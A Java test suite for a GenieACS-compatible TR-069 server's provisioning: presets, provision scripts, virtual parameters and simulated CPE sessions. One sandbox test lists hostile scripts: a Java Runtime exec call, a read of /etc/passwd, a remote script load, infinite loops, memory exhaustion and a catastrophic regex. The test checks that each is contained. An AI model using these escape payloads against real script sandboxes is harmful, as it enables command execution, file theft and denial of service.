package org.cwmpacs.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.bson.Document;
import org.cwmpacs.sim.SimulatedCpe;
import org.junit.jupiter.api.Test;

/** Presets and provisions of a GenieACS database, run in CWMP sessions with the simulator. */
class ProvisioningEndToEndTest extends SimulatorCase {
    static final String BM632W = "igd-broadcom-bm632w.csv";

    /**
     * The three presets GenieACS's setup wizard seeds, with provisions doing what its scripts do (written
     * here, not copied): forget the tree on bootstrap; refresh some TR-098 values hourly; set the
     * connection-request credentials and periodic inform daily.
     */
    static void seedGenieAcsDefaults(RunningAcs acs) {
        var docs = acs.server.store().documents();
        docs.replace("provisions", "bootstrap", Map.of("_id", "bootstrap", "script",
                "const t = Date.now();\nclear('Device', t);\nclear('InternetGatewayDevice', t);"));
        docs.replace("provisions", "default", Map.of("_id", "default", "script", String.join("\n",
                "const h = Date.now(3600000);",
                "const igd = 'InternetGatewayDevice.';",
                "for (const p of ['DeviceInfo.HardwareVersion', 'DeviceInfo.SoftwareVersion',",
                "    'WANDevice.*.WANConnectionDevice.*.WANIPConnection.*.MACAddress',",
                "    'WANDevice.*.WANConnectionDevice.*.WANIPConnection.*.ExternalIPAddress',",
                "    'LANDevice.*.WLANConfiguration.*.SSID', 'LANDevice.*.Hosts.Host.*.HostName',",
                "    'LANDevice.*.Hosts.Host.*.IPAddress', 'LANDevice.*.Hosts.Host.*.MACAddress'])",
                "  declare(igd + p, {path: h, value: h});",
                "declare(igd + 'LANDevice.*.WLANConfiguration.*.KeyPassphrase', {path: h, value: 1});")));
        docs.replace("provisions", "inform", Map.of("_id", "inform", "script", String.join("\n",
                "const user = declare('DeviceID.ID', {value: 1}).value[0];",
                "const pass = Math.trunc(Math.random() * Number.MAX_SAFE_INTEGER).toString(36);",
                "const day = Date.now(86400000);",
                "for (const root of ['InternetGatewayDevice', 'Device']) {",
                "  const ms = root + '.ManagementServer.';",
                "  declare(ms + 'ConnectionRequestUsername', {value: day}, {value: user});",
                "  declare(ms + 'ConnectionRequestPassword', {value: day}, {value: pass});",
                "  declare(ms + 'PeriodicInformEnable', {value: day}, {value: true});",
                "  declare(ms + 'PeriodicInformInterval', {value: day}, {value: 300});",
                "  declare(ms + 'PeriodicInformTime', {value: day}, {value: day % 86400000});",
                "}")));
        docs.replace("presets", "bootstrap", preset("bootstrap", "bootstrap", Map.of("0 BOOTSTRAP", true)));
        docs.replace("presets", "default", preset("default", "default", Map.of()));
        docs.replace("presets", "inform", preset("inform", "inform", Map.of()));
    }

    static Map<String, Object> preset(String id, String channel, Map<String, Object> events) {
        return Map.of("_id", id, "weight", 0, "channel", channel, "events", events, "precondition", "",
                "configurations", List.of(Map.of("type", "provision", "name", id, "args", List.of())));
    }

    @Test
    void genieAcsDefaultPresetsGiveAMigratedDeviceTheCredentialsGenieAcsGaveIt() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        seedGenieAcsDefaults(acs);
        // this tree was captured from a device GenieACS's inform preset had configured: id 202BC1-BM632w-000000
        SimulatedCpe cpe = cpe(tree(BM632W).copyWithSerial("000000"), SimulatedCpe.Options.DEFAULT);
        String ms = "InternetGatewayDevice.ManagementServer.";
        String genieAcsPassword = (String) cpe.model().get(ms + "ConnectionRequestPassword").orElseThrow().value();
        cpe.model().put(ms + "ConnectionRequestPassword", org.cwmpacs.sim.SimParameter.leaf(true, "", "xsd:string"));
        cpe.model().put(ms + "PeriodicInformInterval", org.cwmpacs.sim.SimParameter.leaf(true, "10", "xsd:unsignedInt"));

        SimulatedCpe.SessionResult first = session(cpe, "0 BOOTSTRAP", "1 BOOT");
        assertThat(first.acsRequests()).contains("SetParameterValues");
        assertThat(cpe.model().get(ms + "ConnectionRequestPassword").orElseThrow().value()).isEqualTo(genieAcsPassword);
        assertThat(cpe.model().get(ms + "ConnectionRequestUsername").orElseThrow().value())
                .isEqualTo(RunningAcs.id(cpe));
        assertThat(cpe.model().get(ms + "PeriodicInformInterval").orElseThrow().value()).isEqualTo("300");
        assertThat(device(cpe).value(ms + "PeriodicInformInterval")).contains(300);
        assertThat(faults()).isEmpty();

        // nothing changed since: the next periodic inform asks nothing
        SimulatedCpe.SessionResult again = session(cpe);
        assertThat(again.acsRequests()).isEmpty();
    }

    @Test
    void aTagProvisionTagsTheDeviceWithoutAnyRpc() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        var docs = acs.server.store().documents();
        docs.replace("presets", "tagger", Map.of("_id", "tagger", "weight", 0, "channel", "", "precondition",
                "DeviceID.ProductClass = \"BM632w\"", "configurations", List.of(Map.of("type", "add_tag", "tag",
                        "my tag"))));
        SimulatedCpe cpe = cpe(tree(BM632W), SimulatedCpe.Options.DEFAULT);
        SimulatedCpe.SessionResult result = session(cpe, "0 BOOTSTRAP");
        assertThat(result.acsRequests()).isEmpty();
        assertThat(device(cpe).tags()).containsExactly("my tag");
        Document stored = acs.raw().get("devices", RunningAcs.id(cpe));
        assertThat(stored.get("Tags")).isNull();
    }

    private SimulatedCpe bm632w() {
        return cpe(tree(BM632W), SimulatedCpe.Options.DEFAULT);
    }

    private void provision(String name, String script) {
        acs.server.store().documents().replace("provisions", name, Map.of("_id", name, "script", script));
    }

    private void virtualParameter(String name, String script) {
        acs.server.store().documents().replace("virtualParameters", name, Map.of("_id", name, "script", script));
    }

    private void preset(String id, double weight, String channel, String precondition, Map<String, Object> events,
                        List<Map<String, Object>> configurations) {
        acs.server.store().documents().replace("presets", id, Map.of("_id", id, "weight", weight, "channel", channel,
                "events", events, "precondition", precondition, "configurations", configurations));
    }

    private static Map<String, Object> call(String provision, Object... args) {
        return Map.of("type", "provision", "name", provision, "args", List.of(args));
    }

    private static final String MS = "InternetGatewayDevice.ManagementServer.";
    private static final String INTERVAL_VPARAM = String.join("\n",
            "const p = 'InternetGatewayDevice.ManagementServer.PeriodicInformInterval';",
            "let v;",
            "if (args[1].value) { v = args[1].value[0]; declare(p, null, {value: v}); }",
            "else { v = declare(p, {value: Date.now()}).value[0]; }",
            "return {writable: true, value: [v, 'xsd:unsignedInt']};");

    private String simValue(SimulatedCpe cpe, String path) {
        return String.valueOf(cpe.model().get(path).orElseThrow().value());
    }

    @Test
    void aProvisionsTaskRunsBuiltInsAndScriptsWithArguments() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        provision("interval", "declare(args[0], null, {value: args[1] * 2});");
        SimulatedCpe cpe = bm632w();
        session(cpe, "0 BOOTSTRAP");
        acs.queue(cpe, "{\"name\":\"provisions\",\"provisions\":[[\"interval\",\"" + MS
                + "PeriodicInformInterval\",450],[\"tag\",\"provisioned\",true],[\"value\",\"" + MS
                + "PeriodicInformEnable\",false]]}");
        SimulatedCpe.SessionResult result = session(cpe);
        assertThat(result.acsRequests()).endsWith("SetParameterValues");
        assertThat(simValue(cpe, MS + "PeriodicInformInterval")).isEqualTo("900");
        assertThat(simValue(cpe, MS + "PeriodicInformEnable")).isIn("false", "0");
        assertThat(device(cpe).tags()).contains("provisioned");
        assertThat(tasksLeft()).isZero();
        assertThat(faults()).isEmpty();
    }

    @Test
    void virtualParametersAreComputedStoredAndSetThroughTasks() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        virtualParameter("informInterval", INTERVAL_VPARAM);
        virtualParameter("serial", "const s = declare('DeviceID.SerialNumber', {value: 1}).value[0];\n"
                + "return {writable: false, value: s.toLowerCase()};");
        SimulatedCpe cpe = bm632w();
        session(cpe, "0 BOOTSTRAP");
        acs.queue(cpe, "{\"name\":\"getParameterValues\",\"parameterNames\":[\"VirtualParameters.informInterval\","
                + "\"VirtualParameters.serial\"]}");
        SimulatedCpe.SessionResult read = session(cpe);
        assertThat(read.acsRequests()).doesNotContain("SetParameterValues");
        assertThat(device(cpe).value("VirtualParameters.informInterval")).contains(
                Integer.parseInt(simValue(cpe, MS + "PeriodicInformInterval")));
        assertThat(device(cpe).value("VirtualParameters.serial")).contains(
                cpe.deviceId().serialNumber().toLowerCase());
        // stored like a real parameter: the NBI can query it
        assertThat(acs.raw().get("devices", RunningAcs.id(cpe)).get("VirtualParameters", Document.class)
                .get("serial", Document.class).get("_writable")).isEqualTo(false);

        acs.queue(cpe, "{\"name\":\"setParameterValues\",\"parameterValues\":[[\"VirtualParameters.informInterval\","
                + "600]]}");
        SimulatedCpe.SessionResult set = session(cpe);
        assertThat(set.acsRequests()).contains("SetParameterValues");
        assertThat(simValue(cpe, MS + "PeriodicInformInterval")).isEqualTo("600");
        assertThat(device(cpe).value("VirtualParameters.informInterval")).contains(600);
        assertThat(tasksLeft()).isZero();
        assertThat(faults()).isEmpty();
    }

    @Test
    void aVirtualParameterReturningNonsenseFaultsItsChannel() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        virtualParameter("broken", "return 42;");
        SimulatedCpe cpe = bm632w();
        session(cpe, "0 BOOTSTRAP");
        acs.queue(cpe, "{\"name\":\"getParameterValues\",\"parameterNames\":[\"VirtualParameters.broken\"]}");
        session(cpe);
        assertThat(faults()).singleElement().satisfies(f -> {
            assertThat(f.getString("code")).isEqualTo("script");
            assertThat(f.getString("message")).contains("VirtualParameters.broken");
        });
        assertThat(tasksLeft()).isOne();
    }

    @Test
    void presetsApplyByWeightEventsAndPreconditionsReadFromTheCpeFirst() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        String interval = MS + "PeriodicInformInterval";
        // the precondition names a parameter the Inform does not carry: read first, then evaluated
        preset("light", 1, "a", "InternetGatewayDevice.DeviceInfo.HardwareVersion IS NOT NULL", Map.of(),
                List.of(call("value", interval, "111")));
        preset("heavy", 5, "b", "", Map.of(), List.of(call("value", interval, "555")));
        preset("boot-only", 9, "c", "", Map.of("1 BOOT", true), List.of(call("value", interval, "999")));
        preset("never-on-boot", 0, "d", "", Map.of("1 BOOT", false), List.of(call("tag", "periodic", true)));
        preset("nobody", 10, "e", "DeviceID.ProductClass = 'Other'", Map.of(),
                List.of(call("value", interval, "1")));
        SimulatedCpe cpe = bm632w();
        // a new CPE's first session: 0 BOOTSTRAP and 1 BOOT
        session(cpe);
        assertThat(simValue(cpe, interval)).isEqualTo("999");
        assertThat(device(cpe).tags()).isEmpty();
        session(cpe, "2 PERIODIC");
        // the heavier preset wins the conflict; 1 BOOT is absent; the other product class is not this one
        assertThat(simValue(cpe, interval)).isEqualTo("555");
        assertThat(device(cpe).tags()).containsExactly("periodic");
        assertThat(faults()).isEmpty();
    }

    @Test
    void aScheduledPresetAppliesOnlyInItsWindow() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        java.time.ZonedDateTime now = java.time.ZonedDateTime.now(java.time.ZoneOffset.UTC);
        // a window that opened this minute, and one that opens in two hours
        preset("now", 0, "a", "", Map.of(), List.of(call("tag", "in-window", true)));
        acs.server.store().documents().replace("presets", "now", Map.of("_id", "now", "weight", 0, "channel", "a",
                "schedule", "3600 " + now.getMinute() + " " + now.getHour() + " * * *", "configurations",
                List.of(Map.of("type", "add_tag", "tag", "in-window"))));
        int later = (now.getHour() + 2) % 24;
        acs.server.store().documents().replace("presets", "later", Map.of("_id", "later", "weight", 0, "channel",
                "b", "schedule", "600 0 " + later + " * * *", "configurations",
                List.of(Map.of("type", "add_tag", "tag", "out-of-window"))));
        SimulatedCpe cpe = bm632w();
        session(cpe);
        assertThat(device(cpe).tags()).containsExactly("in-window");
    }

    @Test
    void hostileScriptsFaultTheirOwnChannelAndTheSessionGoesOn() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off", "ACS_SCRIPT_MAX_CPU_MS", "300"));
        Map<String, String> hostile = new java.util.LinkedHashMap<>();
        hostile.put("throws", "throw new TypeError('bad input');");
        hostile.put("loops", "while (true) {}");
        hostile.put("allocates", "const a = []; while (true) a.push(new Array(1000).fill('x'));");
        hostile.put("java", "return Java.type('java.lang.Runtime').getRuntime().exec('id');");
        hostile.put("require", "return require('fs').readFileSync('/etc/passwd');");
        hostile.put("process", "return process.exit(1);");
        hostile.put("load", "load('http://example.invalid/x.js');");
        hostile.put("polyglot", "return Polyglot.eval('js', '1');");
        hostile.put("regex", "return /^(a+)+\\1b$/.test('a'.repeat(40));");
        int i = 0;
        for (Map.Entry<String, String> h : hostile.entrySet()) {
            provision(h.getKey(), h.getValue());
            preset(h.getKey(), i++, h.getKey(), "", Map.of(), List.of(call(h.getKey())));
        }
        preset("good", 0, "good", "", Map.of(), List.of(call("tag", "still-configured", true)));
        SimulatedCpe cpe = bm632w();
        session(cpe);
        assertThat(device(cpe).tags()).containsExactly("still-configured");
        Map<String, String> codes = new java.util.TreeMap<>();
        for (Document f : faults()) {
            codes.put(f.getString("channel"), f.getString("code"));
        }
        assertThat(codes).containsEntry("throws", "script.TypeError").containsEntry("loops", "script.Error")
                .containsEntry("allocates", "script.Error").containsEntry("java", "script.ReferenceError")
                .containsEntry("require", "script.ReferenceError").containsEntry("process", "script.ReferenceError")
                .containsEntry("load", "script.ReferenceError").containsEntry("polyglot", "script.ReferenceError")
                .containsEntry("regex", "script.Error").doesNotContainKey("good");
        Document loops = faults().stream().filter(f -> f.getString("channel").equals("loops")).findFirst().orElseThrow();
        assertThat(loops.getString("message")).contains("ACS_SCRIPT_MAX_STATEMENTS");
        Document throwsFault = faults().stream().filter(f -> f.getString("channel").equals("throws")).findFirst()
                .orElseThrow();
        assertThat(throwsFault.get("detail", Document.class).getString("message")).isEqualTo("bad input");
        // GenieACS keeps the channel's provisions as JSON text
        assertThat(throwsFault.getString("provisions")).isEqualTo("[[\"throws\"]]");

        // a faulted channel waits for its retry; the server still serves sessions
        SimulatedCpe other = cpe(tree(BM632W).copyWithSerial("000777"), SimulatedCpe.Options.DEFAULT);
        session(other);
        assertThat(device(other).tags()).containsExactly("still-configured");
    }

    @Test
    void aPresetThatNeverSettlesEndsInPresetLoop() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        // each evaluation flips a tag the precondition looks at: the presets never settle
        preset("on", 0, "flip", "Tags.flag IS NULL", Map.of(), List.of(call("tag", "flag", true)));
        preset("off", 0, "flip", "Tags.flag IS NOT NULL", Map.of(), List.of(call("tag", "flag", false)));
        SimulatedCpe cpe = bm632w();
        session(cpe);
        assertThat(faults()).singleElement().satisfies(f -> assertThat(f.getString("code")).isEqualTo("preset_loop"));
    }

    @Test
    void aNewRdkbGatewayIsLearnedAndConfiguredInFourRoundTripsUnderTheDefaultPresets() throws Exception {
        acs = RunningAcs.start(dataDir);
        seedGenieAcsDefaults(acs);
        SimulatedCpe cpe = cpe(tree(EC220), SimulatedCpe.Options.DEFAULT.rdkbMode());
        SimulatedCpe.SessionResult first = session(cpe);
        // after the Inform and the empty POST
        assertThat(first.acsRequests()).hasSizeLessThanOrEqualTo(4).endsWith("SetParameterValues");
        String ms = "Device.ManagementServer.";
        assertThat(simValue(cpe, ms + "ConnectionRequestUsername")).isEqualTo(RunningAcs.id(cpe));
        assertThat(simValue(cpe, ms + "PeriodicInformInterval")).isEqualTo("300");
        // the inform time GenieACS's provision derives: the device's offset within the day, as a date in 1970
        // (dates go out in whole seconds, for strict agents)
        long day = 86_400_000L;
        long offset = org.cwmpacs.core.script.Scheduling.variance(RunningAcs.id(cpe), day);
        assertThat(org.cwmpacs.soap.message.CwmpDateTime.parse(simValue(cpe, ms + "PeriodicInformTime")))
                .contains(java.time.Instant.ofEpochMilli((day - offset) % day).truncatedTo(
                        java.time.temporal.ChronoUnit.SECONDS));
        assertThat(storedValues(device(cpe))).isGreaterThan(cpe.model().leafCount() / 2);
        assertThat(faults()).isEmpty();
        assertThat(session(cpe).acsRequests()).isEmpty();
    }

    @Test
    void twoHundredConcurrentSessionsRunScripts() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
        provision("perDevice", String.join("\n",
                "const serial = declare('DeviceID.SerialNumber', {value: 1}).value[0];",
                "declare('InternetGatewayDevice.ManagementServer.PeriodicInformInterval', {value: 1},",
                "  {value: 100 + Number(serial.slice(-3))});",
                "let n = 0; for (let i = 0; i < 20000; i++) n += i % 7;",
                "declare('Tags.busy' + (n % 2), null, {value: true});"));
        preset("perDevice", 0, "", "", Map.of(), List.of(call("perDevice")));
        List<SimulatedCpe> cpes = new java.util.ArrayList<>();
        DataModelCache models = new DataModelCache();
        for (int i = 0; i < 200; i++) {
            cpes.add(cpe(models.copy(String.format("%06d", i)), SimulatedCpe.Options.DEFAULT));
        }
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(200);
        try {
            List<java.util.concurrent.Future<SimulatedCpe.SessionResult>> results = new java.util.ArrayList<>();
            for (SimulatedCpe cpe : cpes) {
                results.add(pool.submit(() -> cpe.runSession()));
            }
            for (var r : results) {
                assertThat(r.get(120, java.util.concurrent.TimeUnit.SECONDS).ok()).isTrue();
            }
        } finally {
            pool.shutdownNow();
        }
        for (int i = 0; i < 200; i++) {
            SimulatedCpe cpe = cpes.get(i);
            assertThat(simValue(cpe, MS + "PeriodicInformInterval")).isEqualTo(String.valueOf(100 + i));
            assertThat(device(cpe).tags()).hasSize(1);
        }
        assertThat(faults()).isEmpty();
    }

    /** One parse of the model CSV, copied per simulated CPE. */
    private static final class DataModelCache {
        private final org.cwmpacs.sim.DataModel base = tree(BM632W);

        org.cwmpacs.sim.DataModel copy(String serial) {
            return base.copyWithSerial(serial);
        }
    }

    @Test
    void extensionsRunUnchangedInNodeAndTheirFaultsAreGenieAcss() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(nodeOnPath(),
                "node (Node.js) is not on the PATH: install it (apt-get install nodejs) to run the extension test");
        java.nio.file.Path ext = dataDir.resolve("ext");
        java.nio.file.Files.createDirectories(ext);
        java.nio.file.Files.writeString(ext.resolve("sample.js"), String.join("\n",
                "exports.greet = function (args, callback) { console.log('greeting ' + args[0]);",
                "  callback(null, {hello: args[0], count: args.length}); };",
                "exports.fail = function (args, callback) { callback(new RangeError('nope ' + args[0])); };",
                "exports.slow = function (args, callback) { setTimeout(() => callback(null, 1), 10000); };"));
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off", "GENIEACS_EXT_DIR", ext.toString(),
                "GENIEACS_EXT_TIMEOUT", "1000"));
        provision("greets", "const r = ext('sample', 'greet', 'extok', 2);\n"
                + "declare('Tags.' + r.hello + r.count, null, {value: true});");
        provision("fails", "ext('sample', 'fail', 'x');");
        provision("slow", "ext('sample', 'slow');");
        preset("greets", 0, "a", "", Map.of(), List.of(call("greets")));
        preset("fails", 0, "b", "", Map.of(), List.of(call("fails")));
        preset("slow", 0, "c", "", Map.of(), List.of(call("slow")));
        SimulatedCpe cpe = bm632w();
        session(cpe);
        assertThat(device(cpe).tags()).containsExactly("extok2");
        Map<String, String> codes = new java.util.TreeMap<>();
        faults().forEach(f -> codes.put(f.getString("channel"), f.getString("code") + " " + f.getString("message")));
        assertThat(codes).containsOnlyKeys("b", "c");
        assertThat(codes.get("b")).isEqualTo("ext.RangeError nope x");
        assertThat(codes.get("c")).isEqualTo("timeout Extension timed out");
    }

    @Test
    void instancesAddAnAliasedInstanceOnceAndDeleteIt() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_PRESETS_REFRESH", "1"));
        SimulatedCpe cpe = cpe(tree(EC220), SimulatedCpe.Options.DEFAULT);
        String table = "Device.Routing.Router.1.IPv4Forwarding";
        // the fixture's forwarding entries are read-only; this CPE lets new ones be written
        cpe.model().subtree(table + ".4.").forEach((path, p) -> {
            if (!p.object()) {
                cpe.model().put(path, new org.cwmpacs.sim.SimParameter(false, true, p.value(), p.type(), 0));
            }
        });
        session(cpe);
        String alias = table + ".[DestIPAddress:10.9.0.0]";
        preset("route", 0, "route", "", Map.of(), List.of(call("instances", alias, 1.0)));
        // an edit is seen by every session starting more than twice ACS_PRESETS_REFRESH later
        Thread.sleep(2100);
        SimulatedCpe.SessionResult add = session(cpe);
        assertThat(add.acsRequests()).containsExactly("AddObject", "GetParameterNames", "GetParameterValues",
                "SetParameterValues");
        assertThat(simValue(cpe, table + ".5.DestIPAddress")).isEqualTo("10.9.0.0");
        // it matches now: nothing more to add
        assertThat(session(cpe).acsRequests()).isEmpty();
        preset("route", 0, "route", "", Map.of(), List.of(call("instances", alias, 0.0)));
        // an edit is seen by every session starting more than twice ACS_PRESETS_REFRESH later
        Thread.sleep(2100);
        assertThat(session(cpe).acsRequests()).containsExactly("DeleteObject");
        assertThat(cpe.model().get(table + ".5.DestIPAddress")).isEmpty();
        assertThat(faults()).isEmpty();
    }

    @Test
    void rebootAndDownloadProvisionsRunOncePerDeclaration() throws Exception {
        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off", "ACS_PRESETS_REFRESH", "1"));
        var upload = acs.server.store().fileStore().upload("fw-2.bin", Map.of("fileType", "1 Firmware Upgrade Image"));
        byte[] firmware = "firmware".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        upload.write(firmware, 0, firmware.length);
        upload.commit();
        SimulatedCpe cpe = bm632w();
        session(cpe);
        // a tag asks for the work; the provisions remove it, so the preset applies once
        preset("upgrade", 0, "upgrade", "Tags.upgrade IS NOT NULL", Map.of(), List.of(
                call("download", "1 Firmware Upgrade Image", "fw-2.bin"), call("reboot"),
                call("tag", "upgrade", false)));
        acs.server.store().devices().tag(RunningAcs.id(cpe), "upgrade", true);
        // an edit is seen by every session starting more than twice ACS_PRESETS_REFRESH later
        Thread.sleep(2100);
        SimulatedCpe.SessionResult first = session(cpe);
        assertThat(first.acsRequests()).containsExactly("Download", "Reboot");
        String download = cpe.lastSessionRequests().get(0);
        assertThat(download).contains("fw-2.bin").contains("<FileSize>" + firmware.length + "</FileSize>");
        assertThat(device(cpe).tags()).isEmpty();
        assertThat(device(cpe).value("Downloads.1.FileName")).contains("fw-2.bin");
        assertThat(device(cpe).value("Reboot")).isPresent();
        assertThat(session(cpe, "1 BOOT", "M Reboot").acsRequests()).isEmpty();
        assertThat(faults()).isEmpty();
    }
}
